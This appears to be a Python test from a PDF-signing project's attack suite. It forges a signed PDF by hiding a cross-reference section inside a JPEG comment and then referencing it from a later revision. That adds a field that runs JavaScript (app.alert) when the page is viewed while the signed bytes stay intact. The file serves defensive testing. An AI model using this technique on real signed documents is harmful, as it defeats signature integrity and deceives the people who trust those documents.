"""A cross-reference section that waits inside the document, as part of a picture, and is signed along.

A later revision names it as the one before itself, so that what it brings seems to have been there already.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from functools import partial

import pikepdf
from PIL import Image

from meterai.pdf.profiles import Profile
from tests.attacks.bases import Bases
from tests.attacks.evidence import both, keeps_signed_bytes
from tests.attacks.raw import anatomy, append, edited, entries_of, longer, objects_text, stream
from tests.attacks.shadow import SHOWN, document
from tests.attacks.signing import signed_by_somebody
from tests.attacks.suite import Attack, attacks

_MARK = b"%HIDDEN%\n"
_ROOM = 3000
_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _upload(hidden: bytes, profile: Profile) -> bytes:
    """A document with a picture whose comment holds `hidden`: pictures stay as they are."""
    picture = io.BytesIO()
    Image.new("L", (8, 8), 255).save(picture, "JPEG", comment=(_MARK + hidden).ljust(_ROOM))
    kind = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8"
    shown = stream(picture.getvalue(), kind + b" /Filter /DCTDecode")
    content = SHOWN + b"q 10 0 0 10 10 10 cm /X0 Do Q"
    data = document(content, shown, resources=b"/XObject << /X0 5 0 R >>")
    return signed_by_somebody(data) if profile is Profile.SIGNED else data


def _prepared(profile: Profile, bases: Bases) -> bytes:
    """Stamped twice: the first time tells where everything will lie."""
    first = bases.sealed(_upload(b"", profile), profile=profile)[0]
    hidden = _section(first, first.index(_MARK) + len(_MARK))
    assert len(_MARK + hidden) < _ROOM
    return bases.sealed(_upload(hidden, profile), profile=profile)[0]


def _section(stamped: bytes, at: int) -> bytes:
    """A field that runs a script when its page is seen, and a table that names it."""
    parts = anatomy(stamped)
    reference = b"%d 0 R" % parts.size
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (x) /F 132 /Rect [0 0 0 0]"
    field += b" /P %d 0 R /AA << /PV %s >> >>"
    notes = longer(stamped, parts.page, "/Annots", reference)
    changes = {
        parts.size: field % (parts.page, _SCRIPT),
        parts.page: edited(stamped, parts.page, {"/Annots": notes}),
        **_longer_form(stamped, reference),
    }
    text, offsets = objects_text(changes, at)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(offsets.items()))
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (parts.size + 1, parts.root, parts.table)
    return text + b"xref\n" + rows + trailer


def _longer_form(stamped: bytes, reference: bytes) -> dict[int, bytes]:
    """The form with one more field; it may stand in the catalog."""
    parts = anatomy(stamped)
    if parts.form:
        fields = longer(stamped, parts.form, "/Fields", reference)
        return {parts.form: edited(stamped, parts.form, {"/Fields": fields})}
    old = entries_of(stamped, parts.root)["/AcroForm"]
    last = b"%d 0 R" % parts.field
    return {
        parts.root: edited(stamped, parts.root, {"/AcroForm": old.replace(last, last + b" " + reference)})
    }


def runs_a_script(_: bytes, forged: bytes) -> bool:
    """The form's last field does."""
    with pikepdf.open(io.BytesIO(forged)) as pdf:
        return bool(pdf.Root.AcroForm.Fields[-1].AA.PV.S == "/JavaScript")


def over_the_hidden_section(_: Bases, data: bytes) -> bytes:
    """A revision of one object that nothing uses."""
    table = data.index(b"xref\n", data.index(_MARK))
    return append(data, {anatomy(data).size + 1: stream(b"0")}, previous=table)


PREPARED: dict[str, Callable[[Bases], bytes]] = {
    f"hidden section, {profile}": partial(_prepared, profile) for profile in Profile
}
ATTACKS: list[Attack] = attacks(
    "tables",
    {"hidden section": over_the_hidden_section},
    on=PREPARED,
    shows=both(keeps_signed_bytes, runs_a_script),
)
